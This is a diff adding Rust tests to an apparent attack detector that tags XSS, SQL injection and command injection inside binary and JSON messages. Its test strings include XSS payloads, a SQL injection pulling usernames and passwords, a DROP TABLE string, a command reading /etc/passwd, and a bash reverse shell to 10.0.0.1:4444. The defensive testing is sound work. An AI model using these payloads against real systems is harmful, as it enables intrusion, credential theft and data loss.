@@ -299,3 +299,149 @@ fn hostile_inputs_do_not_panic() {
         insp.inspect_text(&text, MessagePart::Partial, &mut scratch, &mut findings);
     }
 }
+
+/// Deterministic pseudo-random bytes (xorshift).
+fn random_bytes(len: usize, seed: u64) -> Vec<u8> {
+    let mut x = seed | 1;
+    (0..len)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            (x >> 56) as u8
+        })
+        .collect()
+}
+
+/// A 64 KiB binary message in the shape binary protocols have: random payload (compressed or
+/// encrypted data), with `text` as a length-prefixed string field in the middle.
+fn binary_frame(text: &str, seed: u64) -> Vec<u8> {
+    let mut data = random_bytes(64 * 1024, seed);
+    let mut field = vec![0x12, u8::try_from(text.len()).expect("short text")];
+    field.extend_from_slice(text.as_bytes());
+    field.push(0x1a);
+    data.splice(30_000..30_000 + field.len(), field);
+    data
+}
+
+fn binary_tags(data: &[u8]) -> Vec<AuditTag> {
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    inspector().inspect_binary(data, MessagePart::Complete, &mut scratch, &mut findings);
+    findings.iter().map(|f| f.tag).collect()
+}
+
+#[test]
+fn binary_messages_are_read_through_their_text_runs() {
+    for (text, tag) in [
+        ("<img src=x onerror=alert(1)>", AuditTag::Xss),
+        ("<script>alert(document.cookie)</script>", AuditTag::Xss),
+        (
+            "admin' UNION SELECT username, password FROM users--",
+            AuditTag::Sqli,
+        ),
+        ("1; DROP TABLE users; --", AuditTag::Sqli),
+        ("127.0.0.1; cat /etc/passwd", AuditTag::CmdInjection),
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            AuditTag::CmdInjection,
+        ),
+        // Fullwidth forms are UTF-8 inside the run and folded as in text.
+        ("＜script＞alert(1)＜/script＞", AuditTag::Xss),
+    ] {
+        for seed in [1, 2, 3] {
+            let t = binary_tags(&binary_frame(text, seed));
+            assert!(t.contains(&tag), "{text:?} in binary: {t:?}");
+        }
+    }
+    // A binary message that is text throughout is read as a text message, JSON views included.
+    let json = go_envelope("<script>alert(1)</script>");
+    assert!(binary_tags(json.as_bytes()).contains(&AuditTag::Xss));
+    assert!(binary_tags(b"; id").contains(&AuditTag::CmdInjection));
+}
+
+#[test]
+fn random_binary_messages_are_clean() {
+    for seed in 1..=32 {
+        let data = random_bytes(64 * 1024, seed);
+        assert_eq!(binary_tags(&data), Vec::<AuditTag>::new(), "seed {seed}");
+    }
+    // Ordinary text fields in a binary message stay clean too.
+    let frame = binary_frame("Hi; how are you? I'll be there at 5, don't wait.", 7);
+    assert_eq!(binary_tags(&frame), Vec::<AuditTag>::new());
+}
+
+#[test]
+fn text_runs_are_every_long_enough_stretch_of_text() {
+    // Reference: the same runs found byte by byte.
+    fn naive(data: &[u8]) -> Vec<(usize, usize)> {
+        let mut out = Vec::new();
+        let mut start = 0;
+        let mut i = 0;
+        while i < data.len() {
+            let w = match data[i] {
+                0x20..=0x7e | b'\t' | b'\n' | b'\r' => 1,
+                0..=0x7f => 0,
+                _ => (2..=4)
+                    .find(|&w| i + w <= data.len() && std::str::from_utf8(&data[i..i + w]).is_ok())
+                    .unwrap_or(0),
+            };
+            if w > 0 {
+                i += w;
+                continue;
+            }
+            if i - start >= MIN_TEXT_RUN {
+                out.push((start, i));
+            }
+            i += 1;
+            start = i;
+        }
+        if start == 0 || data.len() - start >= MIN_TEXT_RUN {
+            out.push((start, data.len()));
+        }
+        out
+    }
+    // Random bytes biased towards text, so that runs of every length occur.
+    let alphabet: Vec<u8> = b"abc <>;'\"xyz 019\t\n"
+        .iter()
+        .copied()
+        .chain("é＜€😀".bytes())
+        .chain([0x00, 0x1b, 0x7f, 0x80, 0xc3, 0xe2, 0xf0, 0xff])
+        .collect();
+    for seed in 1..200u64 {
+        let raw = random_bytes(2000, seed);
+        let data: Vec<u8> = raw
+            .iter()
+            .enumerate()
+            .map(|(k, &r)| {
+                if (seed + k as u64).is_multiple_of(11) {
+                    r
+                } else {
+                    alphabet[usize::from(r) % alphabet.len()]
+                }
+            })
+            .collect();
+        let mut got = Vec::new();
+        text_runs(&data, |run| {
+            let start = run.as_ptr() as usize - data.as_ptr() as usize;
+            got.push((start, start + run.len()));
+            true
+        });
+        assert_eq!(got, naive(&data), "seed {seed}");
+    }
+}
+
+#[test]
+fn json_field_names_are_not_commands() {
+    // `id`, `w`, `ps` and `last` are field names in most JSON APIs, not commands to run.
+    for text in [
+        r#"{"id":1}"#,
+        r#"{"type":"chat.message","seq":3,"user":{"id":1021,"name":"user3"},"body":"hi"}"#,
+        r#"{"ps":2,"w":3,"whoami":null}"#,
+    ] {
+        assert_eq!(tags(text), Vec::<AuditTag>::new(), "flagged {text:?}");
+    }
+    // A value is still what the application may paste into a command line.
+    assert_class(r#"{"host":"whoami"}"#, AuditTag::CmdInjection);
+    assert_class(r#"{"host":"127.0.0.1; id"}"#, AuditTag::CmdInjection);
+}
